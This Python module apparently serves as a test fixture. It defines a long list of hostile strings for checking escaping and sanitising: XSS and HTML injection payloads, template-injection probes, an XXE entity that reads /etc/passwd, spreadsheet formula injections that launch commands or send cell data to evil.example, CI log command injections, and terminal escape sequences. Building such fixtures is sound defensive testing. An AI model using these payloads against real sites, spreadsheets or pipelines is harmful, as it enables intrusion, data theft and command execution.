"""Texts that do harm where they are taken for something else: markup, formulas, escape sequences, commands."""

from __future__ import annotations

_MARKUP = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</script><script>alert(1)</script>
</script ><img src=x onerror=alert(1)>
<!--<script>
--><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="https://evil.example/?leak">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><use href="https://evil.example/x.svg#a"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<object data="data:text/html,<script>alert(1)</script>">
<embed src="//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example)}</style>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><img src=x onerror=alert(1)>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<form action="//evil.example"><input type=submit>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="//evil.example" ping="//evil.example">x</a>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
` onerror=alert(1) `
javascript:alert(1)
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;&quot;&apos;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
{{ 7 * 7 }}
{{ ''.__class__.__mro__ }}
{% for x in range(9) %}{{ x }}{% endfor %}
{# comment #}
${alert(1)}
<%= 7 * 7 %>
![x](https://evil.example/leak.png)
[x](javascript:alert(1))
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
__proto__
constructor
toString
""".strip().split("\n")

_MORE_MARKUP = r"""
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<script
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="module">import("//evil.example/x.js")</script>
<script type="application/json">{"a": 1}</script>
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!DOCTYPE html><html><body onload=alert(1)>
</body></html><script>alert(1)</script>
</pre><script>alert(1)</script>
</td></tr></table><img src=x onerror=alert(1)>
</code></pre><h1>Passed</h1>
</li></ul><script>alert(1)</script>
</select><img src=x onerror=alert(1)>
</svg><script>alert(1)</script>
</iframe><script>alert(1)</script>
</xmp><script>alert(1)</script>
</plaintext><script>alert(1)</script>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x:x onerror="alert&#40;1&#41;">
<img/src='x'/onerror=alert(1)>
<img srcset="//evil.example/x.png 2x">
<picture><source srcset="//evil.example/x"><img></picture>
<video src=x onerror=alert(1)></video>
<video poster="//evil.example/x.png"></video>
<audio src="//evil.example/x.mp3" autoplay></audio>
<track src="//evil.example/x.vtt">
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.example/x.png>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)">
<marquee onstart=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style>@import "//evil.example/x.css";</style></svg>
<math href="javascript:alert(1)">x</math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src=x></frameset>
<portal src="//evil.example"></portal>
<applet code=x></applet>
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel="prefetch" href="//evil.example/x">
<link rel="dns-prefetch" href="//evil.example">
<div style="background:url(//evil.example/x)">x</div>
<div style="position:fixed;inset:0">x</div>
<p id="data" name="data">x</p>
<form id=page><input name=cell></form>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x">x</a>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<dialog open>Passed</dialog>
x" style="background:url(//evil.example)
x' onclick='alert(1)
x` onclick=`alert(1)
x onmouseover=alert(1) y=
\"><script>alert(1)</script>
\u0022\u003e\u003cimg src=x\u003e
&lt;img src=x onerror=alert(1)&gt;
&#x3C;img src=x onerror=alert(1)&#x3E;
&NewLine;&Tab;&colon;&lpar;
&notit; &copy &unknown;
{{constructor.constructor('alert(1)')()}}
{{ lipsum.__globals__ }}
#{7*7}
<#assign x=1>
[[${7*7}]]
hasOwnProperty
valueOf
__defineGetter__
{"__proto__": {"x": 1}}
]]>
]]><script>alert(1)</script><![CDATA[
<?php echo 1; ?>
<!ENTITY x "y">
&xxe;
<failure message="x"/></testcase><testcase name="y">
</system-out></testsuite></testsuites>
<testsuite tests="0"/>
""".strip().split("\n")

_MARKDOWN = r"""
# heading
## Passed
> quoted
- item
* item
+ item
1. item
1) item
- [x] done
---
***
___
===
~~~
```
```sh
``` ` ```
`code`
**bold** and __bold__ and *this* and _that_
~~gone~~
[x](https://evil.example "t")
[x]: https://evil.example
[x][y] [^1]
[^1]: a note
![x][y]
<https://evil.example>
<someone@evil.example>
https://evil.example/?a=b
www.evil.example
WWW.evil.example
someone@evil.example
mailto:someone@evil.example
@octocat
@octo-org/everybody
#1
octocat/hello#1
GH-1
:tada:
$\frac{1}{2}$
$$x$$
$`x`$
| a | b |
|---|---|
a | b
a \| b
\
\\|
x\
<details open><summary>x</summary>
<h1>Passed</h1>
<br><br><br>
<sub>x</sub>
&#64;octocat
&#124; &vert; &#91;x&#93;(y)
""".strip("\n").split("\n")

_FORMULAS = """
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example?x="&A1,"click")
=IMPORTXML("https://evil.example","//a")
=WEBSERVICE("https://evil.example")
@SUM(1+1)*cmd|' /C calc'!A0
+1+1
-1+1
-2+3+cmd|' /C calc'!D2
+44 20 7946 0000
-Infinity
--1
=
-
@
"=1+1"
'=1+1
 =1+1
＝1+1
＋1+1
－1+1
＠SUM(1)
−1+1
%0A=1+1
a,=1+1
a;=1+1
","=1+1
"
""
,
'
""".strip("\n").split("\n")

_CI = """
::error::x
::error file=app.js,line=1::x
::add-mask::secret
::stop-commands::token
::set-output name=x::y
  ::warning::x
##[error]x
##[group]x
##vso[task.setvariable variable=x]y
 ##vso[task.complete result=Succeeded;]
a ##vso[task.logissue type=error]b
##teamcity[testFailed name='x']
section_start:0:x
::notice title=x::y
::debug::x
::group::x
::endgroup::
::echo::on
::save-state name=x::y
::add-path::/evil
::set-env name=PATH::/evil
::remove-matcher owner=x::
 ::error::x
##[command]x
##[add-mask]x
##[set-env name=x]y
##VSO[task.setvariable variable=x]y
a ##[error]x
x%0A::error::y
x%0D%0A::error::y
name<<end
name=value
""".strip("\n").split("\n")

_CONTROLS = [
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x07",
    "\x08\x08\x08overwritten",
    "\x0b\x0c\x0e\x1f",
    "\r",
    "shown\rhidden",
    "a\r\nb",
    "\n",
    "\n::error::x",
    "x\n##[error]y",
    "a\n\n# heading",
    "a\n```\n<script>alert(1)</script>",
    "| a |\n|---|\n| b |",
    "a\n---\nb",
    "    code",
    "x  \ny",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b[?1049h",
    "\x1bc",
    "\x1b",
    "\x7f\x7f",
    "\x80\x85\x8d\x9b31m\x9d0;x\x9c",
    "\x9b2J",
    "\u2028\u2029",
    "line\u2028break",
    "\u202ereversed",
    "\u202a\u202b\u202d\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "ad\u00admin",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u2061\u2062\u2063\u2064",
    "\ufeff",
    "\ufff9\ufffa\ufffb",
    "\U000e0041\U000e0042\U000e0001",
    "\ud800",
    "\udfff\ud800",
    "a\udc80b",
    "\ud83d",
    "\U0001f469\u200d\U0001f4bb",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "e\u0301" * 20,
    "Z" + "\u0335\u0321\u034f" * 40,
    "\u6771\u4eac" * 40,
    "\u05d0\u05d1\u05d2 abc \u05d3",
    "\ufdfd\u0bcc\u1f9a",
    "\ufffe\uffff\U0010ffff",
    "a" * 3_000,
    "1e309",
    "NaN",
    "null",
    " ",
    "\u00a0",
    "\u3000",
]

HOSTILE: tuple[str, ...] = (*_MARKUP, *_MORE_MARKUP, *_MARKDOWN, *_FORMULAS, *_CI, *_CONTROLS)
